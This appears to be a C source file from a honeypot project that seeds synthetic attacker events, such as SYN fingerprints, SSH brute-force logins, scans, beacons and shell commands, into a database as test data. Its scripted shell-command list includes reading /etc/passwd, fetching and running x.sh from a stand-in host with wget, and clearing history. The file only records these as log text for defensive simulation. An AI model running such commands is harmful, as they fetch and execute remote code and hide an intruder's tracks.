/* dataset_actors.c — default-dataset stages that write whole event series:
 * each attacker's sniffer SYN fingerprint, and a few scripted attackers
 * whose timing makes DECNET's other behaviour classes (brute force,
 * scanning, beaconing, interactive) appear, derived like every other row. */
#include "dataset_priv.h"
#include <stdio.h>
#include <string.h>
#include <time.h>

static void iso_pair(time_t t, char ts[20], char iso[24])
{
    struct tm tm;
    gmtime_r(&t, &tm);
    strftime(ts, 20, "%Y-%m-%d %H:%M:%S", &tm);
    strftime(iso, 24, "%Y-%m-%dT%H:%M:%SZ", &tm);
}

/* One sniffer SYN fingerprint event per attacker IP that got an attacker
 * row, at its first sighting, with the fields DECNET's sniffer emits (the
 * draws are made for every IP, so the stream does not depend on which).
 * The behaviour rows themselves are derived from the logs (profile_all). */
int ds_seed_sniffer(seed_run *s)
{
    static const char *const oses[] = {"Linux 2.2.x-3.x", "Windows 7 or 8", "nmap", "unknown"};
    static const char *const sigs[] = {"M1460,S,T,N,W7", "M1460,N,W8,N,N,S", "M1460,W10,S,T",
                                       "M1440,N,W6"};
    unsigned long long *rs = s->rs;
    int rc = 0;
    for (long a = 0; a < s->cfg->ds_attackers && !rc; a++) {
        long os = ds_rnd_below(rs, 4), sig = ds_rnd_below(rs, 4);
        long ttl = os == 1 ? 110 + ds_rnd_below(rs, 18) : 44 + ds_rnd_below(rs, 20);
        long hop = (os == 1 ? 128 : 64) - ttl;
        long window = 1024 * (1 + ds_rnd_below(rs, 64));
        long wscale = ds_rnd_below(rs, 10);
        bool sack = ds_rnd_below(rs, 4) != 0, tsopt = ds_rnd_below(rs, 2) != 0;
        char uuid[37];
        event_attacker_uuid(s->ips[a], uuid);
        rs_stmt *st = db_stmt(s->db, "SELECT first_seen, json_unquote(json_extract(deckies, '$[0]')) "
                                   "FROM attackers WHERE uuid = ?", s->err);
        if (!st)
            return -1;
        db_bind_text(st, 1, uuid);
        char first[20] = "", decky[64] = "";
        if (db_step(st) == RS_STEP_ROW) {
            snprintf(first, sizeof first, "%s", db_col_text(st, 0));
            snprintf(decky, sizeof decky, "%s", db_col_text(st, 1));
        }
        db_reset(st);
        if (!first[0])
            continue;
        char fields[512];
        snprintf(fields, sizeof fields, "{\"src_ip\":\"%s\",\"os_guess\":\"%s\",\"ttl\":\"%ld\","
                 "\"hop_distance\":\"%ld\",\"window\":\"%ld\",\"wscale\":\"%ld\","
                 "\"mss\":\"1460\",\"options_sig\":\"%s\",\"has_sack\":\"%s\","
                 "\"has_timestamps\":\"%s\"}", s->ips[a], oses[os], ttl, hop, window, wscale,
                 sigs[sig], sack ? "true" : "false", tsopt ? "true" : "false");
        char raw[768];
        snprintf(raw, sizeof raw, "<134>1 %.10sT%sZ %s sniffer - tcp_syn_fingerprint "
                 "[decnet@55555 src_ip=\"%s\" os_guess=\"%s\" ttl=\"%ld\"] SYN", first,
                 first + 11, decky, s->ips[a], oses[os], ttl);
        rs_event e = {.timestamp = first, .decky = decky, .service = (char *)"sniffer",
                      .event_type = (char *)"tcp_syn_fingerprint", .attacker_ip = s->ips[a],
                      .raw_line = raw, .fields = fields, .msg = (char *)""};
        rc = ds_put_log(s->db, &e, s->err);
    }
    return rc;
}

/* One scripted event: fields is the JSON object text it carries. */
static int scripted(seed_run *s, time_t t, const char *decky, const char *svc,
                    const char *etype, const char *ip, const char *fields)
{
    char ts[20], iso[24], raw[512];
    iso_pair(t, ts, iso);
    snprintf(raw, sizeof raw, "<134>1 %s %s %s - %s [decnet@55555 src_ip=\"%s\"] %s", iso, decky,
             svc, etype, ip, etype);
    rs_event e = {.timestamp = ts, .decky = (char *)decky, .service = (char *)svc,
                  .event_type = (char *)etype, .attacker_ip = (char *)ip, .raw_line = raw,
                  .fields = (char *)fields, .msg = (char *)""};
    return ds_put_log(s->db, &e, s->err);
}

/* A twentieth as many scripted attackers as random ones (at least 4), on
 * 198.51.100.x, each a kind in turn: a brute-forcer (12 logins 2-3 s apart
 * on ssh: credential bounties), a scanner (8 connections 1 s apart over 5
 * services), a beacon (10 HTTP requests 48 and 72 s apart: Cobalt Strike's
 * default profile) and an interactive shell (8 commands, gaps of 7 and 1 s:
 * the attacker's commands). */
int ds_seed_scripted(seed_run *s)
{
    static const char *const scan_svcs[] = {"ssh", "http", "ftp", "smb", "telnet"};
    static const char *const cmds[] = {"uname -a", "id", "cat /etc/passwd",
                                       "wget http://203.0.113.5/x.sh", "chmod +x x.sh", "./x.sh",
                                       "ls -la", "history -c"};
    unsigned long long *rs = s->rs;
    long n = s->cfg->ds_attackers / 20 + 4;
    int rc = 0;
    for (long k = 0; k < n && k < 250 && !rc; k++) {
        char ip[32], decky[32], f[256];
        snprintf(ip, sizeof ip, "198.51.100.%ld", k + 1);
        snprintf(decky, sizeof decky, "decky-%02ld", 1 + ds_rnd_below(rs, s->nd));
        time_t t = T_DEFAULT_END - 3600 * (1 + (time_t)(k % 20)) + (time_t)ds_rnd_below(rs, 600);
        switch (k % 4) {
        case 0:
            for (int i = 0; i < 12 && !rc; i++, t += 2 + (time_t)ds_rnd_below(rs, 2)) {
                const char *pw = ds_pws[ds_rnd_below(rs, 6)];
                snprintf(f, sizeof f, "{\"src_ip\":\"%s\",\"username\":\"root\","
                         "\"password\":\"%s\"}", ip, pw);
                rc = scripted(s, t, decky, "ssh", "login_attempt", ip, f);
            }
            break;
        case 1:
            snprintf(f, sizeof f, "{\"src_ip\":\"%s\"}", ip);
            for (int i = 0; i < 8 && !rc; i++, t += 1)
                rc = scripted(s, t, decky, scan_svcs[i % 5], "connection", ip, f);
            break;
        case 2:
            snprintf(f, sizeof f, "{\"src_ip\":\"%s\",\"method\":\"GET\",\"path\":\"/api/t\","
                     "\"headers\":{\"User-Agent\":\"Mozilla/5.0 (Windows NT 10.0)\"}}", ip);
            for (int i = 0; i < 10 && !rc; i++, t += i % 2 ? 72 : 48)   /* cv 0.2 */
                rc = scripted(s, t, decky, "http", "request", ip, f);
            break;
        default:
            for (int i = 0; i < 8 && !rc; i++, t += i % 2 ? 7 : 1) {   /* mean 4 s, cv 0.75 */
                snprintf(f, sizeof f, "{\"src_ip\":\"%s\",\"command\":\"%s\"}", ip, cmds[i]);
                rc = scripted(s, t, decky, "ssh", "command", ip, f);
            }
        }
    }
    return rc;
}
